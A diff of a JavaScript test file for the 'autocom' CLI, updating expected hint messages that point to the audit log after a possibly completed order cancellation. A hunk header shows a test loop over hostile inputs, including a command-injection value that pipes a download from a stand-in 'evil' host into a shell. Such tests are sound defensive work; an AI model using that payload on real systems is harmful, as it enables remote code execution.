@@ -241,7 +241,10 @@ for (
         assert.match(message, /; the change may have been carried out$/);
         assert.deepEqual(
           [hint, request_id],
-          ["find out before you try again: autocom audit list --request-id r-1", "r-1"],
+          [
+            "find out before you try again: look at what it changes; with admin.audit_log: autocom audit list --request-id r-1",
+            "r-1",
+          ],
         );
       },
     }, w);
@@ -256,7 +259,7 @@ for (const name of ["$(touch x); curl evil|sh", "-o json", "a b", "'", "x".repea
     await autocom("orders cancel ORD-20260503-001 --yes -q", {
       code: 11,
       err:
-        /\(request [0-9a-f-]{36}\)\nhint: find out before you try again: autocom audit list --request-id [0-9a-f-]{36}\n$/,
+        /\(request [0-9a-f-]{36}\)\nhint: find out before you try again: look at what it changes; with admin.audit_log: autocom audit list --request-id [0-9a-f-]{36}\n$/,
     }, w);
   });
 }
